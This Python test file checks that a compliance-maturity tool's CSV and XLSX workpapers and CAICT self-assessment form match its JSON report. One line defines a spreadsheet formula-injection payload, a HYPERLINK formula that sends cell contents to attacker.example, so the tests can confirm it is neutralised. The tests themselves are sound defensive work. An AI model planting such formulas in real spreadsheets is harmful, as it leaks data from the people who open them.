"""Workpapers (--csv, --xlsx) and the CAICT self-assessment form (--caict-form): they open, they
match the report JSON, and text from a scanned system can never become a spreadsheet formula."""

from __future__ import annotations

import csv
import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.cli import maturity

ESTATE = Path(__file__).parent / "estates" / "shop"
EVIL = '=HYPERLINK("https://attacker.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def report_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("workpapers")
    shutil.copytree(ESTATE / "repo", d / "repo")
    config = (ESTATE / "maturity.yaml").read_text(encoding="utf-8")
    config += "scopes:\n  - {name: shop-eu, owner: shop-lead@example.com, target_level: 2, selectors: {kubernetes: {namespaces: [shop]}}}\n"
    (d / "m.yaml").write_text(config, encoding="utf-8")
    assert maturity("-q", "scan", "-c", str(d / "m.yaml"), "--json", str(d / "r.json")).returncode == 0
    doc = json.loads((d / "r.json").read_text(encoding="utf-8"))
    doc["evidence"][0]["subject"] = EVIL  # as if a scanned system named an object so
    (d / "r.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return d / "r.json"


def _requirements(doc: dict[str, Any]) -> list[dict[str, Any]]:
    return [r for fw in doc["frameworks"] for c in fw["capabilities"] for r in c["requirements"]]


def test_csv_and_xlsx_match_the_json(report_file: Path, tmp_path: Path) -> None:
    out = maturity("-q", "report", str(report_file), "--csv", str(tmp_path / "wp"), "--xlsx", str(tmp_path / "wp.xlsx"))
    assert out.returncode == 0, out.stderr
    doc = json.loads(report_file.read_text(encoding="utf-8"))
    raw = (tmp_path / "wp" / "items.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: spreadsheets read the Chinese right
    every = list(csv.DictReader((tmp_path / "wp" / "items.csv").open(encoding="utf-8-sig")))
    rows = [r for r in every if r["scope"] == ""]  # the estate's rows come first, then the scope's
    assert every[: len(rows)] == rows
    assert [(r["item"], r["status"]) for r in rows] == [(q["id"], q["status"]) for q in _requirements(doc)]
    assert [(r["item"], r["status"]) for r in every[len(rows) :]] == [
        (q["id"], q["status"]) for q in _requirements(doc["scopes"][0])
    ]
    assert rows[0]["text_zh"] == _requirements(doc)[0]["text"]["zh"]
    clauses = list(csv.DictReader((tmp_path / "wp" / "clauses.csv").open(encoding="utf-8-sig")))
    assert len([c for c in clauses if c["scope"] == ""]) == sum(len(q["clauses"]) for q in _requirements(doc))
    assert {c["scope"] for c in clauses} == {"", "shop-eu"}
    evidence = list(csv.DictReader((tmp_path / "wp" / "evidence.csv").open(encoding="utf-8-sig")))
    assert [e["sha256"] for e in evidence] == [e["sha256"] for e in doc["evidence"]]
    wb = openpyxl.load_workbook(tmp_path / "wp.xlsx")
    assert wb.sheetnames == ["items", "clauses", "rules", "evidence", "statements"]
    for name in wb.sheetnames:
        with (tmp_path / "wp" / f"{name}.csv").open(encoding="utf-8-sig") as f:
            assert wb[name].max_row == sum(1 for _ in csv.reader(f)), name


def test_scanned_text_never_becomes_a_formula(report_file: Path, tmp_path: Path) -> None:
    out = maturity("-q", "report", str(report_file), "--csv", str(tmp_path / "wp"), "--xlsx", str(tmp_path / "wp.xlsx"))
    assert out.returncode == 0, out.stderr
    evidence = list(csv.DictReader((tmp_path / "wp" / "evidence.csv").open(encoding="utf-8-sig")))
    assert evidence[0]["subject"] == "'" + EVIL  # neutralised in CSV
    ws = openpyxl.load_workbook(tmp_path / "wp.xlsx")["evidence"]
    cell = ws.cell(row=2, column=4)
    assert cell.value == EVIL and cell.data_type == "s"  # exact text, stored as a string
    with zipfile.ZipFile(tmp_path / "wp.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in z.read(n).decode("utf-8") for n in sheets)


def test_caict_form_rates_each_view_against_its_target(report_file: Path, tmp_path: Path) -> None:
    form = tmp_path / "form.xlsx"
    out = maturity("-q", "report", str(report_file), "--caict-form", str(form), "--target-level", "3")
    assert out.returncode == 0, out.stderr
    doc = json.loads(report_file.read_text(encoding="utf-8"))
    wb = openpyxl.load_workbook(form)
    assert wb.sheetnames == ["自评表", "材料清单", "自评表-shop-eu", "材料清单-shop-eu"]
    caps = {c["id"]: c for c in next(f for f in doc["frameworks"] if f["id"] == "ydt1756-4")["capabilities"]}
    scope = next(f for f in doc["scopes"][0]["frameworks"] if f["id"] == "ydt1756-4")["capabilities"]
    for sheet, target, view in (("自评表", 3, caps), ("自评表-shop-eu", 2, {c["id"]: c for c in scope})):
        rows = list(wb[sheet].iter_rows(min_row=2, values_only=True))
        assert [r[0] for r in rows] == list(view)  # YD/T only: AWS WA has no levels
        for cid, _name, tgt, rating, verified, _ceiling, gap, _notes in rows:
            assert tgt == target and rating == view[cid]["level"] and verified == view[cid]["level_verified"]
            assert gap == max(0, target - view[cid]["level"])
    materials = list(wb["材料清单"].iter_rows(min_row=2, values_only=True))
    assert len(materials) == sum(len(c["requirements"]) for c in caps.values())
    met = next(r for r in materials if r[4].startswith("满足"))
    assert met[6] == "系统证据 system evidence" and met[7].startswith("ev-")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--target-level", "3"], "--target-level is for the CAICT form"),
        (["--caict-form", "F.xlsx", "--target-level", "7"], "a level from 0 to 5"),
    ],
)
def test_a_bad_target_level_is_invalid_input_and_writes_nothing(
    report_file: Path, tmp_path: Path, args: list[str], message: str
) -> None:
    out = maturity("-q", "report", str(report_file), "--csv", str(tmp_path / "wp"), *args, cwd=tmp_path)
    assert out.returncode == 2 and message in out.stderr
    assert not (tmp_path / "wp").exists() and not (tmp_path / "F.xlsx").exists()
